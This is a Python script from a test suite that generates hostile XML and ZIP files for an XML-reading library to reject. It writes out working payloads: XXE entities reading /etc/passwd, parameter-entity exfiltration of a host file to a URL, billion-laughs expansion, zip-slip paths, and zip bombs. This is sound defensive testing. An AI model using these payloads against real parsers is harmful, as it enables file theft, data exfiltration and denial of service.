"""Writes the hostile corpus beside this file (python tests/data/hostile/make.py). Files too big to keep in the
repository (a 10 MB text node, 2 million elements, 10,001 ZIP entries) are made by the tests themselves.

Every file here must be refused by nanbyo.xmlio (tests/xmlio/test_hostile_files.py). LISTENER is the port the test
listens on: nothing may connect to it."""
import codecs
import io
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
LISTENER = 65111
URL = f"http://127.0.0.1:{LISTENER}"
DOC = "<documents version=\"1\"><document>{}</document></documents>"


def xml(body, declaration='<?xml version="1.0" encoding="UTF-8"?>\n'):
    return (declaration + body).encode("utf-8")


FILES = {
    "xxe_file.xml": xml('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' + DOC.format("&x;")),
    "xxe_http.xml": xml(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{URL}/xxe">]>\n' + DOC.format("&x;")),
    "xxe_parameter.xml": xml(f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{URL}/p.dtd"> %p;]>\n' + DOC.format("")),
    "xxe_parameter_exfiltrate.xml": xml(
        '<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/hostname">'
        f'<!ENTITY % e "<!ENTITY &#x25; x SYSTEM \'{URL}/?%f;\'>"> %e; %x;]>\n' + DOC.format("")),
    "xxe_external_dtd.xml": xml(f'<!DOCTYPE documents SYSTEM "{URL}/documents.dtd">\n' + DOC.format("")),
    "xxe_public_dtd.xml": xml(f'<!DOCTYPE documents PUBLIC "-//X//DTD X//EN" "{URL}/x.dtd">\n' + DOC.format("")),
    "doctype_plain.xml": xml("<!DOCTYPE documents>\n" + DOC.format("")),
    "xxe_utf16_bom.xml": codecs.BOM_UTF16_LE + (
        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        + DOC.format("&x;")).encode("utf-16-le"),
    "xxe_utf16_no_bom.xml": ('<?xml version="1.0" encoding="UTF-16"?>\n'
                             f'<!DOCTYPE d [<!ENTITY x SYSTEM "{URL}/utf16">]>\n' + DOC.format("&x;")).encode("utf-16-le"),
    "xxe_utf32.xml": codecs.BOM_UTF32_LE + ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                           + DOC.format("&x;")).encode("utf-32-le"),
    "billion_laughs.xml": xml(
        '<!DOCTYPE d [<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
        + "]>\n" + DOC.format("&l9;")),
    "quadratic_blowup.xml": xml('<!DOCTYPE d [<!ENTITY a "' + "a" * 50_000 + '">]>\n' + DOC.format("&a;" * 50_000)),
    "xinclude_file.xml": xml(DOC.format('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                        'href="file:///etc/passwd" parse="text"/>')),
    "xinclude_http.xml": xml(DOC.format(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{URL}/xi"/>')),
    "remote_schema_location.xml": xml(
        '<documents xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:nanbyo:documents:1 {URL}/evil.xsd" version="1"><document/></documents>'),
    "remote_no_namespace_schema.xml": xml(
        '<documents xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{URL}/evil.xsd" version="1"/>'),
    "deep_nesting.xml": xml("<a>" * 10_000 + "</a>" * 10_000),
    "bad_utf8.xml": xml(DOC.format("患者")).replace("患".encode(), b"\xe6\x82"),
    "declared_sjis_is_utf8.xml": xml(DOC.format("東京都"), '<?xml version="1.0" encoding="Shift_JIS"?>\n'),
    "declared_utf8_is_sjis.xml": ('<?xml version="1.0" encoding="UTF-8"?>\n' + DOC.format("東京都")).encode("cp932"),
    "undeclared_sjis.xml": DOC.format("東京都").encode("cp932"),
    "declared_euc_jp.xml": ('<?xml version="1.0" encoding="EUC-JP"?>\n' + DOC.format("東京都")).encode("euc-jp"),
    "sjis_with_utf8_bom.xml": codecs.BOM_UTF8 + xml(DOC.format("東京"), '<?xml version="1.0" encoding="Shift_JIS"?>\n'),
    "not_xml_pdf.xml": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n",
    "truncated.xml": xml(DOC.format("<patient>"))[:-30],
    "two_roots.xml": xml("<documents/><documents/>"),
    "control_character.xml": xml(DOC.format("<note>a\x01b</note>")),
    "empty.xml": b"",
}


def zipped(entries, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name) if isinstance(name, str) else name, data,
                             compress_type=compression)
    return out.getvalue()


def lying_header(data: bytes, claimed: int) -> bytes:
    """A one-entry ZIP whose local and central headers claim `claimed` bytes inflated."""
    out = bytearray(data)
    local = out.find(b"PK\x03\x04")
    struct.pack_into("<I", out, local + 22, claimed)
    central = out.find(b"PK\x01\x02")
    struct.pack_into("<I", out, central + 24, claimed)
    return bytes(out)


def encrypted_flag(data: bytes) -> bytes:
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        flags = struct.unpack_from("<H", out, at + offset)[0]
        struct.pack_into("<H", out, at + offset, flags | 0x1)
    return bytes(out)


ZIPS = {
    "zip_slip.zip": zipped([("../../evil.xml", FILES["doctype_plain.xml"])]),
    "zip_absolute_path.zip": zipped([("/etc/cron.d/evil.xml", b"<a/>")]),
    "zip_backslash_path.zip": zipped([("..\\..\\evil.xml", b"<a/>")]),
    "zip_drive_path.zip": zipped([("C:/evil.xml", b"<a/>")]),
    "zip_bomb.zip": zipped([("bomb.xml", b"<a>" + b"0" * 200_000_000 + b"</a>")]),
    "zip_bomb_lying_header.zip": lying_header(zipped([("bomb.xml", b"<a>" + b"0" * 60_000_000 + b"</a>")]), 1000),
    "zip_nested.zip": zipped([("inner.zip", zipped([("a.xml", b"<a/>")]))]),
    "zip_encrypted.zip": encrypted_flag(zipped([("a.xml", b"<a/>")])),
    "zip_bzip2.zip": zipped([("a.xml", b"<a/>")], zipfile.ZIP_BZIP2),
    "zip_truncated.zip": zipped([("a.xml", b"<a>" + bytes(range(256)) * 40 + b"</a>")])[:-40],
    "zip_bad_crc.zip": bytes(b ^ 0xFF if i == 60 else b for i, b in enumerate(
        zipped([("a.xml", b"<a>" + bytes(range(256)) * 40 + b"</a>")]))),
    "zip_with_xxe.zip": zipped([("ok.xml", xml(DOC.format(""))), ("xxe.xml", FILES["xxe_file.xml"])]),
}


def main():
    for name, data in {**FILES, **ZIPS}.items():
        (HERE / name).write_bytes(data)
    print(f"{len(FILES) + len(ZIPS)} files in {HERE}")


if __name__ == "__main__":
    main()
